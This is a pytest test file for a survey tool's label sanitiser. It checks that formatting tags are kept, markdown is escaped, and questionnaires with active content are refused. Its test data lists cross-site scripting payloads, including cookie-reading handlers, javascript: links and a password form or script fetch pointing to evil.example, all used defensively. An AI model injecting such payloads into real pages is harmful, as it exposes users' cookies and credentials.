"""Questionnaire labels are untrusted text: formatting kept, nothing else interpreted, and
anything that could run in a respondent's browser refused at upload."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from surveys.questionnaire.label_markup import (
    active_content,
    label_html,
    label_markdown,
    label_plain,
)
from tests.surveys.test_loader import problems_of, small_dict

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">클릭</a>',
    '<a href="&#106;avascript:alert(1)">클릭</a>',
    "<iframe src=//evil.example></iframe>",
    '<svg onload="alert(1)">',
    '<div style="background:url(x)" onmouseover="alert(1)">x</div>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "<style>body{display:none}</style>",
    '<form action="//evil.example"><input name=pw></form>',
]


@pytest.mark.parametrize("label", HOSTILE)
def test_hostile_markup_never_reaches_the_page(label):
    shown = label_html(label + "만족도")
    assert "<script" not in shown and "onerror" not in shown and "javascript" not in shown
    assert "<iframe" not in shown and "<img" not in shown and "<svg" not in shown
    assert "<form" not in shown and "<style" not in shown and "<object" not in shown
    assert shown.endswith("만족도")


@pytest.mark.parametrize("label", HOSTILE)
def test_hostile_markup_is_named_as_active_content(label):
    assert active_content(label)


def test_formatting_tags_are_kept_and_other_tags_show_their_text():
    assert label_html("<b>월평균</b> 소득<br>(만원)") == "<b>월평균</b> 소득<br>(만원)"
    assert label_html('<span style="color:red">예</span>') == "예"
    assert label_html('<b class="x" onclick="y">굵게</b>') == "<b>굵게</b>"
    assert active_content('<span style="color:red">예</span> <b>굵게</b>') == []


def test_markdown_in_a_label_is_shown_as_written_not_fetched():
    shown = label_markdown("![x](http://evil.example/x.png) **굵게** $x$ :red[빨강]")
    assert "![" not in shown and "\\[x\\]" in shown
    assert "\\*\\*굵게\\*\\*" in shown and "\\$x\\$" in shown and ":red\\[빨강\\]" in shown


def test_allowed_bold_and_italic_become_markdown_emphasis():
    assert label_markdown("<b>월평균</b> 소득 (만원)") == "**월평균** 소득 (만원)"
    assert label_markdown("<em>최근</em> 1년") == "*최근* 1년"


def test_a_numbered_label_does_not_become_a_list():
    assert label_markdown("1. 귀하는 행복하십니까?") == "1\\. 귀하는 행복하십니까?"
    assert label_markdown("- 없음") == "\\- 없음"
    assert label_markdown("3.5점 이상") == "3.5점 이상"  # nothing to escape mid-text


def test_plain_words_for_summaries_and_spreadsheets():
    assert label_plain("<b>월평균</b> 소득<br>(만원) &amp; 기타") == "월평균 소득 (만원) & 기타"


@given(st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=60))
def test_text_without_markup_keeps_its_words(text):
    if "<" in text or "&" in text:
        return
    assert label_plain(text) == " ".join(text.split()) or label_plain(text) == text.strip()


@given(st.text(max_size=80))
def test_the_sanitised_label_never_holds_a_tag_outside_the_allow_list(text):
    import re

    tags = {t.lower() for t in re.findall(r"<\s*/?\s*([a-zA-Z][\w-]*)", label_html(text))}
    assert tags <= {"b", "strong", "i", "em", "u", "br", "sup", "sub"}


def test_a_questionnaire_with_a_script_in_a_question_label_is_refused():
    data = small_dict()
    data["household"]["sections"][0]["questions"][0]["label"]["ko"] = (
        "가구원 수<img src=x onerror=alert(document.cookie)>"
    )
    problems = problems_of(data)
    assert any("onerror=" in p.message_en and "label.ko" in p.message_en for p in problems)


def test_a_questionnaire_with_a_script_in_a_choice_label_is_refused():
    data = small_dict()
    data["choice_lists"]["tenure"][0]["en"] = "<script>fetch('//evil')</script>Owned"
    problems = problems_of(data)
    assert [p.question for p in problems] == ["tenure"]
    assert "<script>" in problems[0].message_ko


def test_formatting_in_labels_is_accepted():
    data = small_dict()
    data["household"]["sections"][0]["questions"][0]["label"]["ko"] = "<b>가구원</b> 수"
    assert problems_of(data) == []
